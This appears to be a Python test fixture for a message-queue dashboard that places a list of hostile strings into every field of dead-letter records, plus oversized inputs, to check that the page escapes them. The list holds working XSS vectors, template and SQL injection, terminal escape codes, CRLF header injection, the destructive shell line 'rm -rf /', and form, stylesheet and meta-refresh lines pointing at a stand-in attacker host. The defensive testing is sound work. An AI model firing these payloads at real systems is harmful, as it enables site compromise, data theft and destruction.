"""Messages that somebody wrote to harm who looks at them."""

from msgspec.structs import replace

from onceonly import Message
from onceonly.model.dead_letter import DeadLetter
from onceonly.model.message import Failure, FailureKind
from tests.dashboard.serving import NOW

MARK = "x-hostile"
"""The name of an element that must never exist on a page."""

PAYLOADS = [
    f"<{MARK}>",
    f"</pre></textarea></title></script><{MARK}>",
    f'"><{MARK} onmouseover=alert(1)>',
    f"'><{MARK} onfocus=alert(1) autofocus>",
    f"<script>alert(1)</script><{MARK}>",
    f"<img src=x onerror=alert(1)><{MARK}>",
    f"<svg/onload=alert(1)><{MARK}>",
    f"<style>@import 'http://evil.test/x'</style><{MARK}>",
    f"<link rel=stylesheet href=http://evil.test/><{MARK}>",
    f"<base href=http://evil.test/><{MARK}>",
    f"<meta http-equiv=refresh content='0;url=http://evil.test'><{MARK}>",
    f"<iframe srcdoc='<script>alert(1)</script>'></iframe><{MARK}>",
    f"<form action=http://evil.test><input name=token><{MARK}>",
    f"{{{{ 7 * 7 }}}}{{% raw %}}<{MARK}>",
    f"${{alert(1)}}`<{MARK}>",
    f"&lt;script&gt;&#60;{MARK}&#62;<{MARK}>",
    f"\x1b[2J\x1b]0;title\x07<{MARK}>",
    f"\u202egpj.exe\u2066<{MARK}>",
    f"\x00\x7f\u200b<{MARK}>",
    f"javascript:alert(1)//<{MARK}>",
    f"<a href='javascript:alert(1)'>x</a><{MARK}>",
    f"<div data-live id=overview data-announce=x hx-get=/ ><{MARK}>",
    f"$(id) `id` ; rm -rf / <{MARK}>",
    f"\r\nset-cookie: x=1\r\n\r\n<{MARK}>",
    f"<{MARK}/src=x>",
    f"<{MARK.upper()}>",
    f"<<{MARK}>>",
    f"</{MARK}><{MARK}>",
    f"<!--><{MARK}>-->",
    f"--!><{MARK}>",
    f"<![CDATA[<{MARK}>]]>",
    f"<?xml version='1.0'?><{MARK}>",
    f"<math><mtext><table><mglyph><style><{MARK}>",
    f"<svg><script>alert(1)</script><{MARK}></svg>",
    f"<svg><animate onbegin=alert(1) attributeName=x /><{MARK}>",
    f"<noscript><p title='</noscript><{MARK}>'>",
    f"<template><{MARK}></template>",
    f"<textarea autofocus onfocus=alert(1)></textarea><{MARK}>",
    f"<select><option></select><{MARK}>",
    f"<details open ontoggle=alert(1)><{MARK}>",
    f"<video><source onerror=alert(1)></video><{MARK}>",
    f"<audio src=x onerror=alert(1)><{MARK}>",
    f"<body onload=alert(1)><{MARK}>",
    f"<object data=javascript:alert(1)><{MARK}>",
    f"<embed src=http://evil.test/x><{MARK}>",
    f"<input onfocus=alert(1) autofocus><{MARK}>",
    f"<marquee onstart=alert(1)><{MARK}>",
    f"<isindex action=javascript:alert(1) type=submit><{MARK}>",
    f"<button formaction=javascript:alert(1)>x</button><{MARK}>",
    f"<div style='background:url(http://evil.test/x)'><{MARK}>",
    f"<p id=main class=hidden name=token><{MARK}>",
    f"<img name=body><form name=cookie><{MARK}>",
    f"<a id=location href=tel:1><{MARK}>",
    f"<portal src=http://evil.test/><{MARK}>",
    f"<dialog open><{MARK}></dialog>",
    f"<slot onslotchange=alert(1)><{MARK}>",
    f"+ADw-script+AD4-alert(1)<{MARK}>",
    f"\uff1cscript\uff1e\u02bc\u2019<{MARK}>",
    f"\ufeff\u00ad\u2060\u180e\U000e0041<{MARK}>",
    f"\x9b31m\x84\u2028\u2029<{MARK}>",
    "e" + "\u0301" * 200 + f"<{MARK}>",
    f"{{% include 'layout.html' %}}{{{{ self.__init__.__globals__ }}}}<{MARK}>",
    f"'; DROP TABLE onceonly_dead_letters; --<{MARK}>",
]


def hostile(text: str) -> DeadLetter:
    """Make a letter that says this in each place where a sender can write."""
    message = Message(id=text, source=text, type=text, body=text.encode(), subject=text, datacontenttype=text)
    failure = Failure(kind=FailureKind.EXCEPTION, reason=text, traceback=f"Traceback\n{text}", at=NOW, handler=text)
    return DeadLetter(
        endpoint="shop",
        reason=text,
        headers=((text, text), ("h", text)),
        body=text.encode(),
        message=message,
        attempts=1,
        history=(failure,),
        at=NOW,
    )


def _large(name: str, body: bytes = b"{}", traceback: str = "", reason: str = "ValueError: x") -> tuple[str, DeadLetter]:
    message = Message(id=name, source="web", type="PlaceOrder", body=body)
    failure = Failure(kind=FailureKind.EXCEPTION, reason=reason, traceback=traceback, at=NOW)
    headers = (("h", "v"),)
    return name, DeadLetter(
        endpoint="shop", reason=reason, headers=headers, body=body, message=message, history=(failure,), at=NOW
    )


def _headers(name: str) -> tuple[str, DeadLetter]:
    _, letter = _large(name)
    return name, replace(letter, headers=tuple((f"h{number}", f"<{MARK}>") for number in range(10_000)))


LARGE = [
    _large("1-MB-of-text", f"<{MARK}>".encode() * 100_000),
    _large("1-MB-of-bytes", bytes(range(256)) * 4096),
    _large("invalid-UTF-8", b"\xff\xfe<" + MARK.encode() + b">"),
    _large("JSON-200-levels-deep", b"[" * 200 + b"]" * 200),
    _large("JSON-30000-levels-deep", b"[" * 30_000 + b"]" * 30_000),
    _large("JSON-of-64-kB", b"[" + b"[1]," * 15_900 + b"1]"),
    _large("traceback-of-10000-lines", traceback='  File "/app/x.py", line 1, in f\n' * 10_000 + "ValueError: x"),
    _large("reason-of-1-MB", reason=f"<{MARK}>" * 100_000),
    _headers("10000-headers"),
    _large("lone-surrogates", "\ud800".encode("utf-8", "surrogatepass")),
]
LETTERS = [(f"payload-{number}", hostile(text)) for number, text in enumerate(PAYLOADS)] + LARGE
